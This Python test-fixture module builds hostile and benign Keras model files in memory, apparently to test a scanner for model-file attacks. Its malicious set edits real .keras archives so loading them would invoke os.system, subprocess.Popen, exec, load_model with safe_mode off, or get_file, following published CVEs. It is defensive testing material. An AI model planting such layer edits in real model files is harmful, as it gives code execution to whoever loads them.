"""Hostile and benign files of the 2026 format bypass classes (issue #11), made in memory.

Keras models are saved by real Keras (torch backend) and then edited the way the published
advisories edit them; GGUF files are written by the real `gguf` writer, ONNX models by `onnx`.
A library that is not installed only makes its files absent. Cases that need a folder (ONNX
external data, symlinks) live in the tests with `tmp_path`.
"""

from __future__ import annotations

import functools
import importlib.util
import io
import json
import os
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")


def have(module: str) -> bool:
    return importlib.util.find_spec(module) is not None


# --- Keras -----------------------------------------------------------------------------------


def fn_ref(module: str, name: str) -> dict[str, Any]:
    """A function reference as Keras 3 serialises one."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": None}


@functools.lru_cache(maxsize=1)
def keras_models() -> dict[str, bytes]:
    """Real models saved by Keras: a Functional model with a nested Sequential, compiled, as
    `.keras` and `.h5`, a plain Sequential `.keras`, and an `.h5` with a bytecode Lambda."""
    import keras

    inner = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2)], name="inner")
    inp = keras.Input((4,))
    out = inner(keras.layers.Dense(3, activation="relu")(inp))
    functional = keras.Model(inp, out)
    functional.compile(optimizer="adam", loss=keras.losses.MeanSquaredError(), metrics=["mae"])
    sequential = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1, activation="tanh")])
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)])
    out_files: dict[str, bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:
        saves: list[tuple[str, Callable[[str], None]]] = [
            ("functional.keras", functional.save),
            ("functional.h5", functional.save),
            ("sequential.keras", sequential.save),
            ("lambda.h5", lam.save),
        ]
        for name, save in saves:
            path = str(Path(tmp) / name)
            save(path)
            out_files[name] = Path(path).read_bytes()
    return out_files


def edit_keras(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """Rewrite config.json of a real .keras archive, keeping every other member."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "config.json":
                config = json.loads(content)
                edit(config)
                content = json.dumps(config).encode()
            dst.writestr(info.filename, content)
    return buf.getvalue()


def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def _nested(config: dict[str, Any]) -> dict[str, Any]:
    """The nested Sequential of the functional model."""
    return next(layer for layer in _layers(config) if layer["class_name"] == "Sequential")


def lambda_layer(function: dict[str, Any], arguments: dict[str, Any] | None = None) -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "payload", "function": function, "arguments": arguments or {}},
        "registered_name": None,
        "build_config": {"input_shape": [None, 3]},
    }


def keras_malicious() -> dict[str, bytes]:
    if not have("keras"):
        return {}
    models = keras_models()
    functional = models["functional.keras"]

    def nested_lambda(fn: dict[str, Any], **arguments: Any) -> Callable[[dict[str, Any]], None]:
        def edit(config: dict[str, Any]) -> None:
            _layers(_nested(config)).append(lambda_layer(fn, arguments))

        return edit

    def compile_loss(config: dict[str, Any]) -> None:
        config["compile_config"]["loss"] = fn_ref("subprocess", "Popen")

    def build_config(config: dict[str, Any]) -> None:
        _layers(config)[1]["build_config"]["hook"] = fn_ref("builtins", "exec")

    def tfsm(config: dict[str, Any]) -> None:
        _layers(_nested(config)).append(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {"name": "sm", "filepath": "/tmp/attacker_savedmodel"},
                "registered_name": None,
            }
        )

    def shared(config: dict[str, Any]) -> None:
        dense = _layers(_nested(config))[-1]["config"]
        dense["kernel_initializer"] = {**fn_ref("os", "system"), "shared_object_id": 1}

    return {
        # CVE-2025-9906: Keras's own load_model called with safe_mode off, inside a nested model
        "keras_nested_load_model.keras": edit_keras(
            functional, nested_lambda(fn_ref("keras.models", "load_model"), safe_mode=False)
        ),
        # CVE-2025-8747: keras.utils.get_file downloads to any path
        "keras_get_file_download.keras": edit_keras(
            functional, nested_lambda(fn_ref("keras.utils", "get_file"), origin="http://x/y")
        ),
        "keras_safe_mode_switch.keras": edit_keras(
            functional,
            nested_lambda(fn_ref("keras.src.saving.serialization_lib", "set_global_attribute")),
        ),
        "keras_nested_os_system.keras": edit_keras(
            functional, nested_lambda(fn_ref("os", "system"))
        ),
        "keras_compile_config_popen.keras": edit_keras(functional, compile_loss),
        "keras_build_config_exec.keras": edit_keras(functional, build_config),
        "keras_tfsmlayer.keras": edit_keras(functional, tfsm),
        "keras_shared_object_os_system.keras": edit_keras(functional, shared),
        "keras_lambda_bytecode.h5": models["lambda.h5"],
    }


def keras_benign() -> dict[str, bytes]:
    if not have("keras"):
        return {}
    models = keras_models()
    return {
        "keras_functional.keras": models["functional.keras"],
        "keras_sequential.keras": models["sequential.keras"],
        "keras_functional.h5": models["functional.h5"],
    }


# --- the corpora -----------------------------------------------------------------------------


def malicious_files() -> dict[str, bytes]:
    """name -> bytes; each file is one published bypass class."""
    return {**keras_malicious()}


def benign_files() -> dict[str, bytes]:
    return {**keras_benign()}
